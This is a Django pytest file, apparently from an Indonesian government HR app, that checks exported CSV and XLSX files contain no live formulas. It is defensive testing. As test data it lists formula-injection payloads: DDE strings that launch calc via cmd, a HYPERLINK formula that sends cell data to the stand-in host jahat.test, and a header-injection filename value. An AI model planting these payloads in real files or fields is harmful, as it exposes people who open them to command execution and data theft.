"""No cell of a file that we hand out is a formula, whatever stands in the data: XLSX and CSV."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from simpul.organisasi import services as organisasi
from simpul.organisasi.daftar_akun import akun_csv
from simpul.organisasi.impor import layanan as impor
from simpul.organisasi.impor.templat import kesalahan_xlsx
from simpul.organisasi.models import Impor, Pegawai, UnitOrganisasi
from simpul.organisasi.services.akun import AkunBaru
from tests.adversari.panggung import pengunjung
from tests.adversari.tabel_alamat import LIHAT, uraikan
from tests.adversari.test_hak_atas_alamat import alamat

AWALAN = ("=", "+", "-", "@", "\t", "\r")
MUATAN = tuple(f"{awal}cmd|' /C calc'!A0" for awal in AWALAN) + (
    '=HYPERLINK("http://jahat.test?x="&A1,"klik")',
    '";=1+1;"',
    "=1+1\n=2+2",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "＝1+1",
)


def periksa_csv(isi: bytes) -> None:
    asli = [
        s
        for baris in csv.reader(io.StringIO(isi.decode("utf-8-sig"), newline=""), delimiter=";")
        for s in baris
    ]
    assert not [s for s in asli if s.startswith(AWALAN)]


def periksa_xlsx(isi: bytes) -> None:
    for lembar in load_workbook(io.BytesIO(isi)).worksheets:
        for baris in lembar.iter_rows():
            for sel in baris:
                assert sel.data_type != "f", (lembar.title, sel.coordinate, sel.value)
                assert sel.hyperlink is None
                assert not isinstance(sel.value, str) or not sel.value.startswith(AWALAN), (
                    sel.coordinate,
                    sel.value,
                )


@pytest.mark.parametrize("muatan", MUATAN)
def test_the_list_of_first_passwords_holds_no_formula(p, muatan):
    Pegawai.objects.filter(pk=p.wati.pk).update(nama=muatan[:150])
    UnitOrganisasi.objects.filter(pk=p.yankes.pk).update(nama=muatan)
    jawab = pengunjung("nia").post(reverse("kelola_akun_buat", args=[p.dinkes.pk]))
    periksa_csv(jawab.content)
    periksa_csv(akun_csv(p.bombana, [AkunBaru(p.dodi, muatan, muatan)]))


def test_the_list_of_first_passwords_has_a_harmless_name(p):
    UnitOrganisasi.objects.filter(pk=p.dinkes.pk).update(kode='A"\r\nX: y')
    jawab = pengunjung("nia").post(reverse("kelola_akun_buat", args=[p.dinkes.pk]))
    assert jawab["Content-Disposition"] == 'attachment; filename="akun-A---X--y.csv"'


def test_the_list_of_mistakes_of_an_import_holds_no_formula(p):
    wadah = io.StringIO()
    penulis = csv.writer(wadah, delimiter=";")
    penulis.writerow(["Nama", "Kode Pegawai", "Tanggal Lahir", "Golongan", "Jenis ASN"])
    for nomor, muatan in enumerate(MUATAN):
        penulis.writerow([muatan, f"K{nomor}", muatan, muatan, muatan])
    satu = impor.unggah(instansi=p.bombana, nama="=1+1.csv", isi=wadah.getvalue().encode())
    impor.kerjakan(satu.pk)
    satu = Impor.objects.get(pk=satu.pk)
    assert len(satu.kesalahan) >= len(MUATAN)
    isi = kesalahan_xlsx(satu)
    periksa_xlsx(isi)
    nilai = [s.value for baris in load_workbook(io.BytesIO(isi)).worksheets[0].iter_rows() for s in baris]
    assert any("cmd|" in str(v) for v in nilai), "isinya tetap terbaca"


def test_every_file_that_an_address_hands_out_is_free_of_formulas(p):
    """All addresses of the table, whatever they will be: what comes as a file is looked into."""
    for nama, orang in zip(MUATAN, (p.dodi, p.citra, p.endah, p.wati, p.kiki), strict=False):
        organisasi.ubah_pegawai(pegawai=orang, nama=f"{nama[:100]} {orang.nama}")
    organisasi.ubah_unit(unit=p.yankes, nama="=1+1 Bidang")
    diperiksa = set()
    for nama, objek, _tanda in uraikan(LIHAT):
        jawab = pengunjung("nia").get(alamat(p, nama, objek, "bombana"))
        jenis = jawab.get("Content-Type", "")
        if "spreadsheet" in jenis:
            periksa_xlsx(jawab.content)
            diperiksa.add(nama)
        elif "csv" in jenis:
            periksa_csv(jawab.content)
            diperiksa.add(nama)
    assert diperiksa == {
        "impor_templat",
        "impor_templat_satu",
        "impor_kesalahan",
        "perjanjian_templat",
        "rencana_templat",
    }
